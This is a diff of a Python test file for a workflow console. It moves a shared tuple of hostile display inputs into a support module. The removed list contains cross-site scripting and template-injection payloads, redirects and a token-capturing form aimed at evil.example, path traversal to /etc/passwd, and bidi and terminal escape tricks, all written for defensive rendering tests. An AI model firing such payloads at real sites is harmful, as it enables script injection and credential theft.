@@ -16,52 +16,8 @@ from atom_workflows.documents import run_path, step_path
 from atom_workflows.messages.start import read_start_event
 from atom_workflows.ports import Update
 from console.conftest import OpenConsole
+from support.hostile import HOSTILE
 from support.workflows import script
-
-HOSTILE: Final = (
-    "<script>window.owned = 1</script>",
-    "<img src=x onerror='window.owned = 1'>",
-    '"><svg onload=window.owned=1>',
-    "' onmouseover='window.owned=1",
-    "javascript:window.owned=1",
-    "</title><script>window.owned=1</script>",
-    "</bdi></td></table><h1>owned</h1>",
-    "${window.owned=1}",
-    "{{constructor.constructor('window.owned=1')()}}",
-    "<iframe srcdoc='<script>parent.owned=1</script>'>",
-    "<a href='https://evil.example'>click</a>",
-    "<style>main { display: none }</style>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<form action='https://evil.example'><input name=token></form>",
-    "<!-- ",
-    "<?lit$123$?>",
-    "lit$0123456789$",
-    "]]>",
-    "\\u003cscript\\u003e",
-    "&lt;b&gt;&#x3c;script&#x3e;",
-    "\u202eexe.fdp\u202c",
-    "\u2066\u202ereversed\u2069",
-    "\u200b\u200c\u200d\ufeffinvisible",
-    "\x1b[2J\x1b]0;owned\x07",
-    "\x9b31mred",
-    "عربى نص من اليمين",
-    "עברית ואז more",
-    "a\r\nb\nc\td",
-    "\u2028line\u2029paragraph",
-    "n" * 3_000,
-    "word " * 500,
-    "🏳️‍🌈" * 200,
-    "Z̸͓̠̈́͝a̵l̴g̵o̶" * 40,
-    "%2F..%2F..%2Fetc",
-    "../../../etc/passwd",
-    "#/runs/other?state=FAILED",
-    "a&state=FAILED#b",
-    "`backticks` `and` more`",
-    "__proto__",
-    "constructor",
-    "null",
-)
 
 BATCH: Final = 6
 
